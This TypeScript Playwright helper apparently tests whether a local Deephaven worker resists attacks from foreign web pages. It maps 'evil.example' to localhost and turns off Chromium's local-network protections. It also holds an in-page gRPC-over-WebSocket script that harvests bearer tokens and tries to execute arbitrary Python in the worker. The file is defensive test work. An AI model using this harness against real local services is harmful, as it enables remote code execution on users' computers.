import { create, toBinary } from '@bufbuild/protobuf';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { ExecuteCommandRequestSchema, StartConsoleRequestSchema } from '../src-main/host/deephaven/generated/console_pb.ts';
import { exportTicket, ticketOf } from '../src-main/host/deephaven/tickets.ts';

/** A name that leads to this computer for the browser, as an attacker's does after its answer changed. */
export const foreignName = 'evil.example';

/**
 * Chromium's arguments for that name. A page with a public address first needs the person's yes to reach this computer, in newer
 * versions; it must not come to that.
 */
export const foreignArgs = [
  `--host-resolver-rules=MAP ${foreignName} 127.0.0.1`,
  '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults',
];

/** What a page got from a worker. */
export interface Haul {
  /** Answers by login: gRPC's bytes as text. */
  consoles: Record<string, string>;
  /** Of scripts that were sent with what those answers gave. */
  scripts: string[];
  /** Of requests without a WebSocket: the body, or the browser's refusal. */
  requests: Record<string, string>;
}

/** A page of a site that is not ours. */
export async function openForeignPage(browser: Browser): Promise<{ page: Page; close: () => Promise<void> }> {
  const site = createServer((_, answer) => answer.setHeader('content-type', 'text/html').end('<title>Harmless</title>'));
  site.listen(0, '127.0.0.1');
  await once(site, 'listening');
  const page = await browser.newPage();
  await page.goto(`http://${foreignName}:${(site.address() as AddressInfo).port}/`);
  return {
    page,
    async close() {
      await page.close();
      site.close();
    },
  };
}

/** A page of a site whose name leads to the worker itself by now, so that the browser takes both for one origin. */
export async function openReboundPage(browser: Browser, port: number): Promise<{ page: Page; close: () => Promise<void> }> {
  const page = await browser.newPage();
  await page.route('**/harmless', route => route.fulfill({ contentType: 'text/html', body: '<title>Harmless</title>' }));
  await page.goto(`http://${foreignName}:${port}/harmless`);
  return { page, close: () => page.close() };
}

/** Does from a page what a page can do to run `code` in the worker at `origin`. */
export function attack(page: Page, origin: string, code: string): Promise<Haul> {
  const consoleId = ticketOf(exportTicket(1));
  const start = toBinary(
    StartConsoleRequestSchema,
    create(StartConsoleRequestSchema, { resultId: consoleId, sessionType: 'python' }),
  );
  const execute = toBinary(ExecuteCommandRequestSchema, create(ExecuteCommandRequestSchema, { consoleId, code }));
  return page.evaluate<Haul>(`(${inPage})(${JSON.stringify({ origin, start: [...start], execute: [...execute] })})`);
}

/** Speaks gRPC's WebSocket form as Deephaven's own page does: first the headers as text, then the message, then the end. */
const inPage = `async ({ origin, start, execute }) => {
  const framed = bytes => Uint8Array.of(0, 0, 0, 0, bytes.length, ...bytes);
  const call = (method, headers, bytes) => new Promise(resolve => {
    const socket = new WebSocket(origin.replace('http', 'ws') + '/io.deephaven.proto.backplane.' + method, ['grpc-websockets']);
    let text = '';
    socket.binaryType = 'arraybuffer';
    socket.onopen = () => {
      socket.send(new TextEncoder().encode(headers));
      socket.send(Uint8Array.of(0, ...framed(bytes)));
      socket.send(Uint8Array.of(1));
    };
    socket.onmessage = ({ data }) => (text += new TextDecoder('latin1').decode(data));
    socket.onclose = ({ code }) => resolve(text + ' closed ' + code);
  });
  const request = options => fetch(origin + '/io.deephaven.proto.backplane.grpc.ConfigService/GetAuthenticationConstants', options)
    .then(answer => answer.text(), error => 'refused: ' + error.message);
  const bearerIn = text => /Bearer [0-9a-f-]{36}/.exec(text)?.[0];
  const given = bearerIn(await call('grpc.SessionService/NewSession', 'x-tried: 1\\r\\n', [8, 1]));
  const logins = { nobody: 'x-tried: 1\\r\\n', anonymous: 'authorization: Anonymous\\r\\n', given: 'authorization: ' + given + '\\r\\n' };
  const haul = { consoles: {}, scripts: [], requests: {} };
  for (const [name, headers] of Object.entries(logins)) {
    const answer = haul.consoles[name] = await call('script.grpc.ConsoleService/StartConsole', headers, start);
    const bearer = bearerIn(answer);
    if (bearer) haul.scripts.push(await call('script.grpc.ConsoleService/ExecuteCommand', 'authorization: ' + bearer + '\\r\\n', execute));
  }
  const headers = { 'content-type': 'application/grpc-web+proto', 'x-grpc-web': '1' };
  haul.requests.grpc = await request({ method: 'POST', headers, body: framed([]) });
  haul.requests.opaque = await request({ mode: 'no-cors' });
  return haul;
}`;
